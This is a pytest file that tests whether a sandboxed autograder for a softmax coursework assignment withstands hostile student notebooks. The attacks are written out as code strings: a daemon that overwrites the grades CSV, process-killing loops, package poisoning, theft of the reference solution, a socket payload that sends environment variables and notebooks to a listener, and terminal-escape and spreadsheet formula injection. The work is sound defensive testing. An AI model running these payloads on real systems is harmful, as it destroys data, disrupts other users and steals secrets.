"""The autograder against hostile students: every attack of the tracker, graded next to an honest submission.

One class is graded once (:func:`hostile`): an honest notebook (full marks when
graded alone) and one notebook per attack. Each test then asserts that the
attacker earns nothing and that the honest grade is exactly what it is alone.
The attacks are bounded: the killer stops after 3 s, the daemon after 20 s (it
must die long before), nothing allocates for real, nothing forks without limit.
Before any attack runs, a probe checks the sandbox really isolates processes,
so an attack that kills or stops processes never runs unsandboxed.
"""
import csv
import io
import json
import os
import resource
import select
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

from derivations.coursework import edition, grade, rubric, safe_text, sandbox, student, submissions
from tests.test_grade import GOOD_NAIVE_BATCH, GOOD_NEG, notebook, require_sandbox

# Slow: one run grades every attack beside an honest notebook in the sandbox (15-20 s); `make test-fast` leaves it out, `make test` runs it.
pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parent.parent
MARKER = "4242.4242"          # the daemon's `sleep` argument: a survivor would show it in /proc/*/cmdline
HONEST_ANSWER = 'check_answer("b", r"U(\\hat{y} - y)")'
# The honest naive softmax imports from the package, as the assignment notebook does: a
# poisoned package would cost it its marks.
HONEST_NAIVE = '''from derivations.core.functions import log_softmax, softmax


def naive_softmax_loss_and_gradient(v_c, o, U):
    scores = U.T @ v_c
    delta = softmax(scores)
    loss = -log_softmax(scores)[o]
    delta[o] -= 1
    return float(loss), U @ delta, np.outer(v_c, delta)
'''

# ---------------------------------------------------------------------------- the attacks
# Each is the body of naive_softmax_loss_and_gradient (or, with a leading "@", module-level code
# run when the worker loads the definitions); {placeholders} are filled in by the fixture.

COPY_REFERENCE = '''
def naive_softmax_loss_and_gradient(v_c, o, U):
    """Find the instructor's checkout and run its reference under a submission file name."""
    import glob, os, re, sys
    starts = [f"/proc/{{os.getppid()}}/cwd", os.path.dirname(os.path.abspath(sys.argv[0])), os.getcwd(),
              {root!r}] + glob.glob("/proc/*/cwd") + [p for p in sys.path if p]
    frame = sys._getframe()
    while frame is not None:                     # the worker's request dict, by frame inspection
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if isinstance(value, dict) and isinstance(value.get("package"), str):
                starts.append(value["package"])
        frame = frame.f_back
    for start in starts:
        here = start
        for _ in range(6):
            path = os.path.join(here, "derivations", "core", "losses.py")
            try:
                src = open(path).read()
            except OSError:
                src = ""
            body = src.split("def naive_softmax_loss_and_gradient", 1)[-1].split("def neg_sampling", 1)[0]
            if "U.T @ v_c" in body and "NotImplementedError" not in body:
                src = re.sub(r"from \\.(\\w+) import", r"from derivations.core.\\1 import", src)
                namespace = {{}}
                exec(compile(src, "<submission cell 99>", "exec"), namespace)
                return namespace["naive_softmax_loss_and_gradient"](v_c, o, U)
            here = os.path.dirname(here)
    raise RuntimeError("no reference found")
'''
NAN = '''
def naive_softmax_loss_and_gradient(v_c, o, U):
    return 0.0, v_c * np.nan, U * np.nan
'''
CONSTANT = '''
def naive_softmax_loss_and_gradient(v_c, o, U):
    return np.log(U.shape[1]), 0 * v_c, 0 * U          # sum_o exp(-J) = 1, and every gradcheck passes
'''
DAEMON = '''
def _daemon():
    """A double-forked setsid daemon that outlives the grader and rewrites the CSV and a classmate."""
    import glob, os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "{marker}"])
            end = time.time() + 20
            while time.time() < end:
                for path in [{csv!r}, {honest!r}] + glob.glob("/proc/*/cwd/*.csv"):
                    try:
                        with open(path, "w") as f:
                            f.write("hacked")
                    except OSError:
                        pass
                time.sleep(0.05)
        os._exit(0)
    time.sleep(0.2)
    return 0


_started = _daemon()          # module level: runs once, when the worker loads the definitions


def naive_softmax_loss_and_gradient(v_c, o, U):
    raise RuntimeError("daemon started")
'''
KILLER = '''
_state = {{"done": False}}


def _kill_everything():
    """Kill every other process it can reach, for 3 seconds, while the honest workers run."""
    import os, signal, time
    _state["done"] = True
    end = time.time() + 3
    while time.time() < end:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.01)
    return 0


def naive_softmax_loss_and_gradient(v_c, o, U):
    if not _state["done"]:          # once, in the naive part's worker only: the honest parts run meanwhile
        _kill_everything()
    raise RuntimeError("nothing left to kill")
'''
KILL_PARENT = '''
def naive_softmax_loss_and_gradient(v_c, o, U):
    import os, signal
    for pid in (os.getppid(), {grader_pid}):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("the grader should be dead")
'''
STOP_PARENT = '''
def naive_softmax_loss_and_gradient(v_c, o, U):
    import os, signal
    for pid in (os.getppid(), {grader_pid}):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    raise RuntimeError("the grader should be frozen")
'''
PACKAGE_WRITER = '''
import os as _os
import derivations as _d


def _poison():
    """Append code to every module of the package later workers import."""
    for here, _dirs, files in _os.walk(_os.path.dirname(_d.__file__)):
        for name in files:
            if name.endswith(".py"):
                try:
                    with open(_os.path.join(here, name), "a") as f:
                        f.write("\\nraise SystemExit('poisoned by a classmate')\\n")
                except OSError:
                    pass
    return 0


_done = _poison()


def naive_softmax_loss_and_gradient(v_c, o, U):
    raise RuntimeError("poisoned")
'''
SOCKET = '''
_sent = {{"done": False}}


def naive_softmax_loss_and_gradient(v_c, o, U):
    """Send classmates' notebooks, the reference and the environment to a listener (once)."""
    import glob, json, os, socket, sys
    if not _sent["done"]:
        _sent["done"] = True
        loot = {{"env": dict(os.environ), "files": {{}}}}
        here = os.path.dirname(os.path.abspath(sys.argv[0]))
        for path in ([{root!r} + "/derivations/core/losses.py"] + glob.glob("/proc/*/cwd/*.ipynb")
                     + glob.glob(here + "/*.py")):
            try:
                loot["files"][path] = open(path).read()[:2000]
            except OSError:
                pass
        data = json.dumps(loot).encode()
        for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, {unix!r})):
            try:
                with socket.socket(family, socket.SOCK_STREAM) as s:
                    s.settimeout(2)
                    s.connect(address)
                    s.sendall(data)
            except OSError:
                pass
    raise RuntimeError("sent")
'''
ESCAPES = '''
def naive_softmax_loss_and_gradient(v_c, o, U):
    raise ValueError("\\x1b[2J\\x1b]0;owned\\x07\\r=HYPERLINK(\\"http://evil.example\\",\\"click\\")\\n@SUM(1)\\u202e")
'''

ATTACKS = {      # file stem -> code cell; each defines at most naive_softmax_loss_and_gradient
    "copy_reference": COPY_REFERENCE,
    "nan_gradients": NAN,
    "constant_loss": CONSTANT,
    "setsid_daemon": DAEMON,
    "kill_others": KILLER,
    "kill_parent": KILL_PARENT,
    "stop_parent": STOP_PARENT,
    "package_writer": PACKAGE_WRITER,
    "socket_exfiltration": SOCKET,
    "escape_sequences": ESCAPES,
    '=HYPERLINK("http:evil","x")': NAN,
}
FIRST = ["package_writer", "kill_others", "kill_parent", "stop_parent"]   # graded before the honest one
LAST_WORDS = {   # what each attack's function raises once its attack is done: proof that it ran
    "copy_reference": "no reference found", "setsid_daemon": "daemon started",
    "kill_others": "nothing left to kill", "kill_parent": "the grader should be dead",
    "stop_parent": "the grader should be frozen", "package_writer": "poisoned",
    "socket_exfiltration": "sent", "escape_sequences": "owned",
}

MALFORMED = {    # file name -> bytes: each costs its author only
    "000_not_json.ipynb": b"\x00\x01{this is not json",
    "source_int.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": 123}], "nbformat": 4}).encode(),
    "cells_int.ipynb": json.dumps({"cells": 5}).encode(),
    "deep_nesting.ipynb": b"[" * 100_000,
}


def _cell_notebook(path, cells):
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
    nbformat.write(nb, path)
    return path


PROBE = '''import json, os, socket, sys
json.load(sys.stdin)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=1).close()
    net = True
except OSError:
    net = False
print(json.dumps({{"pids": [p for p in os.listdir("/proc") if p.isdigit()], "ppid": os.getppid(),
                   "checkout": os.path.exists({root!r} + "/derivations"), "net": net}}))
'''


def _check_isolation(tmp, port):
    """Refuse to run process-killing attacks unless the sandbox demonstrably isolates them."""
    script = tmp / "probe.py"
    script.write_text(PROBE.format(port=port, root=str(ROOT)))
    seen, problem = sandbox.run(script, {}, sandbox.Limits(10, 256))
    assert problem is None, problem
    assert len(seen["pids"]) <= 3 and seen["ppid"] <= 1, f"the sandbox shares a PID namespace: {seen}"
    assert not seen["checkout"] and not seen["net"], f"the sandbox sees the checkout or the network: {seen}"


class Listener:
    """A TCP socket on 127.0.0.1 and an abstract Unix socket, recording whatever arrives."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.unix_name = f"\0w2v-hostile-{os.getpid()}"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.unix_name)
        self.received, self.connections, self.stop = [], 0, threading.Event()
        for s in (self.tcp, self.unix):
            s.listen()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            ready, _, _ = select.select([self.tcp, self.unix], [], [], 0.1)
            for s in ready:
                conn, _ = s.accept()
                self.connections += 1
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(1 << 16))
                except OSError:
                    pass
                conn.close()

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.tcp.close()
        self.unix.close()


def _survivors():
    """Pids of processes whose command line holds the daemon's marker."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if MARKER.encode() in f.read():
                    found.append(int(pid))
        except (OSError, ValueError):
            pass
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    require_sandbox()
    tmp = tmp_path_factory.mktemp("hostile")
    folder, out = tmp / "class", tmp / "instructor"
    folder.mkdir()
    out.mkdir()
    listener = Listener()
    try:
        _check_isolation(tmp, listener.port)
        honest = notebook(folder / "honest.ipynb", HONEST_NAIVE, [GOOD_NAIVE_BATCH, HONEST_ANSWER])
        # The same honest work queued right behind the killer, so that its workers run while the killer
        # kills, however slowly a loaded machine starts the sandboxes queued before it.
        beside = notebook(folder / "honest_beside_killer.ipynb", HONEST_NAIVE, [GOOD_NAIVE_BATCH, HONEST_ANSWER])
        honest_bytes = honest.read_bytes()
        alone = grade.grade([honest], jobs=2)
        csv_path = out / "grades.csv"
        fill = dict(root=str(ROOT), csv=str(csv_path), honest=str(honest), marker=MARKER,
                    grader_pid=os.getpid(), port=listener.port, unix=listener.unix_name)
        paths = {}
        for stem, code in ATTACKS.items():
            paths[stem] = _cell_notebook(folder / f"{stem}.ipynb", ["import numpy as np", code.format(**fill)])
        for name, data in MALFORMED.items():
            (folder / name).write_bytes(data)
            paths[Path(name).stem] = folder / name
        # Within every cap, but a 40,000-character expression nested 5,000 deep, typed as an answer too.
        deep = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\ny = " + "1 + " * 7000 + "1"
        paths["deep_expression"] = _cell_notebook(folder / "deep_expression.ipynb", [
            deep, 'check_answer("b", r"' + "\\frac{" * 400 + '")'])
        paths["huge_expression"] = _cell_notebook(folder / "huge_expression.ipynb", ["y = " + "1+" * 50_000 + "1"])
        with open(folder / "oversize.ipynb", "wb") as f:      # a 6 MB notebook, mostly one string
            f.write(b'{"cells": [], "metadata": {"junk": "' + b"x" * (6 << 20) + b'"}}')
        paths["oversize"] = folder / "oversize.ipynb"
        first = [paths.pop(s) for s in FIRST]
        first.insert(FIRST.index("kill_others") + 1, beside)
        order = [paths.pop("000_not_json")] + first + [honest] + [paths[s] for s in sorted(paths)]
        rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        runs, real_run = [], sandbox.run

        def logged(script, request, *args, **kwargs):
            start = time.perf_counter()
            try:
                return real_run(script, request, *args, **kwargs)
            finally:
                code = "".join(request.get("cells", []))
                who = "killer" if "nothing left to kill" in code else "honest" if GOOD_NEG in code else ""
                runs.append((who, request.get("function"), start, time.perf_counter()))
        t0 = time.perf_counter()
        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(sandbox, "run", logged)
            report = grade.grade(order, jobs=4)
        seconds = time.perf_counter() - t0
        rss_growth_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss) / 1024
        grade.write_csv(report, csv_path)
        written = csv_path.read_bytes()
        time.sleep(1.5)                  # a surviving daemon would rewrite the CSV by now
        after = {"csv": csv_path.read_bytes(), "honest": honest.read_bytes(), "survivors": _survivors()}
    finally:
        listener.close()
    for pid in after["survivors"]:       # only if the sandbox failed: the daemon's `sleep`
        os.kill(pid, 9)
    scores = {Path(k).stem: {r.part: r for r in rows} for k, rows in report.items()}
    return dict(report=report, scores=scores, alone=alone, honest=str(honest), beside=str(beside),
                seconds=seconds, runs=runs,
                csv=written, after=after, honest_bytes=honest_bytes, listener=listener,
                rss_growth_mb=rss_growth_mb, folder=folder)


def _total(rows):
    return sum(r.score for r in rows.values())


# ---------------------------------------------------------------------------- the honest student

def test_honest_grade_is_unchanged_by_the_class(hostile):
    alone = {r.part: r.score for r in next(iter(hostile["alone"].values()))}
    with_them = {r.part: r.score for r in hostile["report"][hostile["honest"]]}
    assert with_them == alone
    code = sum(p.points for p in rubric.default_parts())
    assert sum(alone[p.key] for p in rubric.default_parts()) == code and alone["(b)"] == 3


def test_the_run_is_bounded(hostile):
    assert hostile["seconds"] < 120
    assert hostile["rss_growth_mb"] < 300      # the 6 MB notebook is never parsed


# ---------------------------------------------------------------------------- attackers earn nothing

@pytest.mark.parametrize("stem", sorted(set(ATTACKS) | {"deep_expression", "huge_expression", "oversize"}
                                        | {Path(n).stem for n in MALFORMED}))
def test_attacker_earns_nothing(hostile, stem):
    rows = hostile["scores"][stem]
    assert _total(rows) == 0, {k: (r.score, r.failures[:2]) for k, r in rows.items() if r.score}


@pytest.mark.parametrize("stem", sorted(LAST_WORDS))
def test_each_attack_ran_to_its_end(hostile, stem):
    """Each attack's code ran (no typo, no fork refused) and then failed as written: the test has teeth."""
    why = " ".join(hostile["scores"][stem]["naive_softmax"].failures)
    assert f"RuntimeError: {LAST_WORDS[stem]}" in why or (stem == "escape_sequences" and "owned" in why), why


def test_copying_the_reference_finds_only_stubs(hostile):
    why = " ".join(hostile["scores"]["copy_reference"]["naive_softmax"].failures)
    assert "no reference found" in why


def test_nan_and_constant_answers_score_zero_with_reasons(hostile):
    nan = " ".join(hostile["scores"]["nan_gradients"]["naive_softmax"].failures)
    assert "not finite" in nan and "loss: matches the reference: differs" in nan
    const = " ".join(hostile["scores"]["constant_loss"]["naive_softmax"].failures)
    assert "not awarded: the loss does not match the reference" in const


# ---------------------------------------------------------------------------- harming others

def test_daemon_dies_with_its_worker(hostile):
    after = hostile["after"]
    assert after["survivors"] == [], "the setsid daemon outlived the grader"
    assert after["csv"] == hostile["csv"] and b"hacked" not in after["csv"]
    assert after["honest"] == hostile["honest_bytes"]


def test_killing_and_stopping_reach_nothing(hostile):
    """kill(-1), kill(getppid()), SIGSTOP: the grader finished (we are here) and nobody lost a part to it."""
    for stem in ("kill_others", "kill_parent", "stop_parent"):
        why = " ".join(hostile["scores"][stem]["naive_softmax"].failures)
        assert "RuntimeError" in why, why       # the attacker's own worker ran to its end, unharmed
    alone = {r.part: r.score for r in next(iter(hostile["alone"].values()))}
    for name in (hostile["honest"], hostile["beside"]):
        honest = hostile["report"][name]
        assert not any("killed" in f or "time limit" in f for r in honest for f in r.failures), name
        assert {r.part: r.score for r in honest} == alone, name
    killer = [(a, b) for who, f, a, b in hostile["runs"] if who == "killer" and f == "naive_softmax_loss_and_gradient"]
    assert len(killer) == 1 and killer[0][1] - killer[0][0] > 3
    overlapping = [f for who, f, a, b in hostile["runs"] if who == "honest" and a < killer[0][1] and b > killer[0][0]]
    assert overlapping, "no honest worker ran while the killer was killing"


def test_the_package_cannot_be_poisoned(hostile):
    why = " ".join(hostile["scores"]["package_writer"]["naive_softmax"].failures)
    assert "RuntimeError: poisoned" in why       # its write failed silently; its own function ran
    assert all(not r.failures for r in hostile["report"][hostile["honest"]][:4])


def test_nothing_reaches_a_listener(hostile):
    assert hostile["listener"].connections == 0 and hostile["listener"].received == []


# ---------------------------------------------------------------------------- breaking the run

def test_unreadable_notebooks_cost_their_author_only(hostile):
    scores = hostile["scores"]
    reasons = {stem: scores[stem]["naive_softmax"].failures[0] for stem in
               ("000_not_json", "source_int", "cells_int", "deep_nesting", "huge_expression", "oversize")}
    assert "not JSON" in reasons["000_not_json"]
    assert "'source' must be a string" in reasons["source_int"]
    assert "no list of 'cells'" in reasons["cells_int"]
    assert "nested 100000 deep" in reasons["deep_nesting"]
    assert "characters (at most 50,000)" in reasons["huge_expression"]
    assert "MB, more than the 5 MB" in reasons["oversize"]
    for stem in reasons:
        assert [r.part for r in scores[stem].values()] == hostile["report"].columns


def test_csv_header_comes_from_the_parts(hostile):
    rows = list(csv.reader(hostile["csv"].decode().splitlines()))
    header = ["submission", *hostile["report"].columns, "total", "max", "failures"]
    assert rows[0] == header and all(len(r) == len(header) for r in rows)
    # Every part's points, code and written, from the rubric and the checker's references.
    from derivations.coursework.answers import REFERENCES
    most = sum(p.points for p in rubric.default_parts()) + sum(r.points for r in REFERENCES.values())
    assert rows[1][0].endswith("000_not_json.ipynb") and rows[1][1:-1] == ["0"] * (len(header) - 4) + ["0", f"{most:g}"]
    honest = next(r for r in rows if r[0].endswith("honest.ipynb"))
    assert honest[header.index("naive_softmax")] == "10" and honest[header.index("(b)")] == "3"


def test_no_control_characters_or_formulas_reach_people(hostile):
    text = hostile["csv"].decode()
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not any(c in cell for cell in cells for c in "\x1b\x07\r\n\u202e")
    assert not [c for c in cells if c[:1] in "=+-@"], "a CSV cell a spreadsheet would run"
    assert any(c.startswith("'=HYPERLINK") or "=HYPERLINK" in c for c in cells)
    shown = grade.table(hostile["report"]) + "\n".join(grade.failure_lines(hostile["report"]))
    assert not any(ord(c) < 32 and c != "\n" or c in "\x7f\u202e" for c in shown)
    assert "owned" in " ".join(hostile["scores"]["escape_sequences"]["naive_softmax"].failures)


def test_caps_hold_before_parsing(tmp_path, monkeypatch):
    """Past the size or depth cap, the text is never handed to the JSON parser."""
    def no_parse(*args, **kwargs):
        raise AssertionError("json.loads called on a notebook past a cap")
    big = tmp_path / "big.ipynb"
    big.write_bytes(b'{"cells": [], "x": "' + b"y" * (submissions.MAX_FILE_BYTES + 1) + b'"}')
    deep = tmp_path / "deep.ipynb"
    deep.write_bytes(b'{"cells": ' + b"[" * 1000 + b"]" * 1000 + b"}")
    monkeypatch.setattr(submissions.json, "loads", no_parse)
    for path, words in ((big, "MB"), (deep, "nested 1001 deep")):
        with pytest.raises(submissions.Unreadable, match=words):
            submissions.code_cells(path)
    assert submissions.json_depth(b'{"a": "[[[[[[", "b": [[1], {"c": "\\"]]]"}]}') == 3


def test_cells_are_made_safe_for_terminals_and_spreadsheets():
    assert safe_text.clean("a\x1b[2Jb\r\n\tc\u202ed\x07") == "a [2Jb c d"
    assert safe_text.csv_cell('=HYPERLINK("http://evil","x")') == '\'=HYPERLINK("http://evil","x")'
    assert [safe_text.csv_cell(t) for t in ("+1", "-1", "@SUM(1)", "\t=1", "plain")] == [
        "'+1", "'-1", "'@SUM(1)", "'=1", "plain"]


def test_symlinks_and_fifos_are_not_read(tmp_path):
    (tmp_path / "evil.py").symlink_to(ROOT / "derivations" / "core" / "losses.py")
    os.mkfifo(tmp_path / "pipe.ipynb")
    for name, words in (("evil.py", "symbolic link"), ("pipe.ipynb", "not a regular file")):
        with pytest.raises(submissions.Unreadable, match=words):
            submissions.code_cells(tmp_path / name)


# ---------------------------------------------------------------------------- the sandbox is required

def test_the_attacks_work_without_the_sandbox(tmp_path):
    """Graded with --unsafe-no-sandbox, the same notebooks copy the reference, poison the package a
    classmate imports and reach the listener: the sandbox is what stops them (harmless here: the
    package is the grader's temporary copy, the listener is ours)."""
    require_sandbox()
    listener = Listener()
    try:
        fill = dict(root=str(ROOT), port=listener.port, unix=listener.unix_name)
        subs = [_cell_notebook(tmp_path / f"{stem}.ipynb", ["import numpy as np", ATTACKS[stem].format(**fill)])
                for stem in ("copy_reference", "socket_exfiltration", "package_writer")]
        subs.append(notebook(tmp_path / "honest.ipynb", HONEST_NAIVE))
        report = grade.grade(subs, parts=[rubric.naive_softmax_part()], written=False, unsafe=True, jobs=1)
        time.sleep(0.5)
    finally:
        listener.close()
    scores = [rows[0].score for rows in report.values()]
    assert scores == [10, 0, 0, 0], [rows[0].failures[:1] for rows in report.values()]
    assert listener.connections == 2 and b"naive_softmax_loss_and_gradient" in b"".join(listener.received)


def test_grader_refuses_without_a_sandbox(monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(sandbox, "available", lambda: "bwrap is not on PATH")
    with pytest.raises(sandbox.SandboxUnavailable, match="--unsafe-no-sandbox"):
        grade.grade([tmp_path / "x.ipynb"])
    assert grade.main([str(tmp_path), "--csv", str(tmp_path / "g.csv")]) == 2
    assert "Refusing to grade" in capsys.readouterr().err and not (tmp_path / "g.csv").exists()


def test_one_process_per_written_part(monkeypatch, tmp_path):
    """Each typed answer is checked in a run of its own; the same formula twice, once."""
    seen = []
    monkeypatch.setattr(sandbox, "available", lambda: None)

    def fake_run(script, request, limits, package=None, isolate=True):
        if Path(script).name == "answer_worker.py":
            seen.append(request["answers"])
            part = next(iter(request["answers"]))
            return {"results": [{"part": part, "verdict": "correct", "message": ""}]}, None
        return None, "not run in this test"
    monkeypatch.setattr(sandbox, "run", fake_run)
    answers = 'check_answer("b", r"U(\\hat{y} - y)")\ncheck_answer("a", r"-\\log \\hat{y}_o")'
    subs = [_cell_notebook(tmp_path / f"{k}.ipynb", [answers]) for k in range(2)]
    report = grade.grade(subs, parts=[rubric.naive_softmax_part()])
    assert sorted(len(a) for a in seen) == [1, 1] and {k for a in seen for k in a} == {"a", "b"}
    assert all(r.score == r.points for rows in report.values() for r in rows if r.part in ("(a)", "(b)"))


# ---------------------------------------------------------------------------- the student package

def test_student_package_holds_no_answers(tmp_path):
    """No handwritten data or grader; no fingerprint of any solution or of the seed in any file, .yml/.json/.txt included."""
    regions = edition.strip_package(ROOT, tmp_path)
    pkg = tmp_path / "derivations"
    assert not (pkg / "coursework" / "handwritten.py").exists() and not (pkg / "coursework" / "data").exists()
    assert not list(pkg.rglob("*.yml")) and not list(pkg.rglob("handwritten*"))
    seed = student.instructor_only_regions(ROOT)
    assert {r.origin for r in seed} >= {"derivations/coursework/handwritten.py",
                                        "derivations/coursework/data/handwritten_seed.yml"}
    public = student.public_text(ROOT)
    chunks, _ = edition.fingerprints(regions, public)
    seed_chunks, _ = student.instructor_only_fingerprints(ROOT, public)
    chunks.update(seed_chunks)
    seed_chunks = [c for c, o in seed_chunks.items() if o.startswith("derivations/coursework/data/")]
    assert len(seed_chunks) > 10
    assert student.scan(tmp_path, chunks, {}) == []
    assert all(student.scanned(p) for p in pkg.rglob("*") if p.is_file())
    for suffix in (".yml", ".json", ".txt"):            # a copy of the seed in any of them is caught
        planted = pkg / f"planted{suffix}"
        planted.write_text(seed_chunks[0])
        assert {f for _, _, f in student.scan(tmp_path, chunks, {})} == {f"derivations/planted{suffix}"}
        planted.unlink()


def test_student_package_without_the_written_checker(tmp_path):
    edition.strip_package(ROOT, tmp_path, written_checker=False)
    answers = tmp_path / "derivations" / "coursework" / "answers"
    assert [p.name for p in answers.iterdir()] == ["__init__.py"]
    assert not (tmp_path / "derivations" / "coursework" / "answer_worker.py").exists()
    code = textwrap.dedent('''
        import sys
        sys.path.insert(0, sys.argv[1])
        from derivations.coursework.answers import check_answer, REFERENCES
        assert REFERENCES == {}
        check_answer("b", r"U(\\\\hat{y} - y)")
    ''')
    out = subprocess.run([sys.executable, "-I", "-c", code, str(tmp_path)], capture_output=True, text=True,
                         timeout=60)
    assert out.returncode == 0, out.stderr
    assert "no written-answer checker" in out.stdout


def test_stray_markers_in_any_file_type_stop_the_stripper(tmp_path):
    src = tmp_path / "src" / "derivations"
    src.mkdir(parents=True)
    (src / "__init__.py").write_text("")
    (src / "notes.yml").write_text(f"a: 1\n# {edition.BEGIN}\nb: secret\n# {edition.END}\n")
    with pytest.raises(edition.MarkerError, match="notes.yml:2"):
        edition.strip_package(tmp_path / "src", tmp_path / "out")
    (src / "notes.yml").unlink()
    (src / "page.js").write_text(f"// {edition.END}\n")
    with pytest.raises(edition.MarkerError, match="without a matching"):
        edition.strip_package(tmp_path / "src", tmp_path / "out2")
